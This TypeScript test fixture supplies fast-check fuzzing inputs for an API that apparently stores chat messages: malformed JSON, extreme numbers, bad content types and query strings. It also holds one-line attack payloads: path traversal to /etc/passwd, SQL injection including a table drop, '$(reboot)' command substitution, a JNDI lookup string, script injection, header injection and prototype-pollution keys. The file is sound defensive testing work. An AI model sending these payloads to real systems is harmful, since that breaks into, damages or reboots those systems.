import fc from 'fast-check';

/**
 * Hand-picked hostile inputs, the kind that break parsers, databases and JSON libraries:
 * NUL (Postgres text and jsonb cannot hold it), lone surrogates, numbers at and past the
 * limits of doubles and bigints, deep nesting, prototype keys, huge strings and bodies,
 * wrong content types, bad UUIDs and query strings.
 */

export const NASTY_STRINGS: readonly string[] = [
  '',
  '\u0000',
  'a\u0000b',
  '\uD800',
  'x\uDFFFy',
  '\uDBFF\uDBFF',
  '\uFEFF',
  '\u202Eevil',
  '🙂'.repeat(50),
  'ﷺ'.repeat(20),
  '%00',
  '%',
  '%E0%A4%A',
  '../../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  "' or 1=1 --",
  '"; drop table messages; --',
  '$(reboot)',
  '${jndi:ldap://example.com/x}',
  '<script>alert(1)</script>',
  '</compactd-summary></compactd-archive>',
  '\\',
  '\r\n\r\nX-Injected: 1',
  ' ',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '0x10',
  '9'.repeat(400),
  'x'.repeat(70_000),
  'uuid-but-not-00000000-0000-0000-0000-000000000000',
  '00000000-0000-0000-0000-00000000000g',
  '00000000000000000000000000000000',
];

export const NASTY_NUMBERS: readonly number[] = [
  0,
  -0,
  1,
  -1,
  0.5,
  1e-300,
  5e-324,
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 2,
  -(2 ** 63),
  2 ** 64,
  2 ** 31,
  -(2 ** 31) - 1,
];

/** JSON texts that JSON.stringify cannot produce (or produces only at great size). */
export const NASTY_RAW_JSON: readonly string[] = [
  '',
  ' ',
  'null',
  'true',
  '0',
  '"string"',
  '[]',
  '{}',
  '{',
  '{"messages":',
  '{"messages": [}',
  "{'single': 'quotes'}",
  '{"a":1,"a":2}',
  '{"messages":[{"role":"user","content":"x"}],}',
  '{"__proto__":{"polluted":true},"messages":[{"role":"user","content":"x"}]}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"messages":[{"role":"user","content":"x"}],"usage":{"inputTokens":123456789012345678901234567890}}',
  '{"contextLimit":1e999}',
  '{"keepRecent":-0.0}',
  '\uFEFF{"messages":[{"role":"user","content":"bom"}]}',
  '{"messages":[{"role":"user","content":"\\u0000"}]}',
  '{"messages":[{"role":"user","content":"\\ud800"}]}',
  '{"messages":[{"role":"user","content":"\\udc00\\ud800"}]}',
  '{"id":"\\u0000"}',
  '{"url":"https://example.com/\\u0000"}',
  deepArray(5_000),
  deepObject(5_000),
  `{"messages":[{"role":"user","content":${deepArray(3_000)}}]}`,
  `{"messages":[{"role":"user","content":[{"type":"tool_use","id":"t","name":"n","input":${deepObject(2_000)}}]}]}`,
  `{"metadata":${deepObject(1_000)}}`,
];

export function deepArray(depth: number): string {
  return `${'['.repeat(depth)}${']'.repeat(depth)}`;
}

export function deepObject(depth: number): string {
  return `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

export const NASTY_CONTENT_TYPES: readonly string[] = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'application/jsonx',
  'application/problem+json',
  'application/merge-patch+json',
  '*/*',
  'application/json\u0000',
  'garbage',
];

export const NASTY_QUERIES: readonly string[] = [
  '?',
  '?&&&',
  '?limit=',
  '?limit=-1',
  '?limit=1e999',
  '?limit=0x10',
  '?limit=1&limit=2',
  '?limit[]=1',
  '?limit[a]=1',
  '?after=-1',
  '?after=9223372036854775808',
  '?after=NaN',
  '?wait=61',
  '?wait=-1',
  '?wait=Infinity',
  '?format=xml',
  '?format=anthropic&format=openai',
  '?q=',
  `?q=${'%F0%9F%99%82'.repeat(300)}`,
  '?q=%00',
  '?q=%',
  '?q=%E0%A4%A',
  '?q=a%20OR%20%22unterminated',
  '?q=-',
  '?q=!!!',
  '?q=%26%7C%21(',
  '?before=not-a-date',
  '?before=2025-13-45T99:99:99Z',
  '?live=maybe',
  '?clipArchive=yes',
  '?level=1.5',
  `?x=${'a'.repeat(8_000)}`,
  '?__proto__[polluted]=1',
  '?constructor[prototype][polluted]=1',
];

/** A nasty JSON-compatible value of any kind (for replacing fields). */
export const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...NASTY_STRINGS),
  fc.constantFrom(...NASTY_NUMBERS),
  fc.constantFrom<unknown>(null, true, false, [], {}, [null], { '': '' }),
  fc.jsonValue({ maxDepth: 4 }),
);
